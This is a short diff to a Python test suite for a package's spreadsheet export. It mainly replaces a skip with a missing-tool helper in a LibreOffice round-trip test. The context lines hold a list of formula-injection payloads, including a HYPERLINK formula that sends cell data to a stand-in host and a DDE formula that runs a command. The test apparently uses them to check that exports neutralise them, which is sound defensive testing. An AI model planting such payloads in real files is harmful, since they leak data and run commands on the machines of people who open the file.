@@ -11,7 +11,7 @@ import pytest
 
 import geo
 from geo.render.export import write_outputs
-from tests.conftest import hazards_tm
+from tests.conftest import hazards_tm, missing_tool
 
 FORMULAS = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=cmd|'/c calc'!A1"]
 
@@ -170,7 +170,7 @@ def test_a_spreadsheet_application_reads_the_workbook_as_written(tmp_path, hosti
 
     soffice = shutil.which("soffice")
     if soffice is None:
-        pytest.skip("NO LIBREOFFICE (Debian: libreoffice-calc-nogui): the workbook is checked with openpyxl only")
+        missing_tool("NO LIBREOFFICE (Debian: libreoffice-calc-nogui): the workbook is checked with openpyxl only")
     write_outputs(hostile_result, tmp_path / "out", xlsx=True)
     # Each sheet to its own CSV: comma, UTF-8 (76), values as shown, all sheets (-1).
     fmt = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
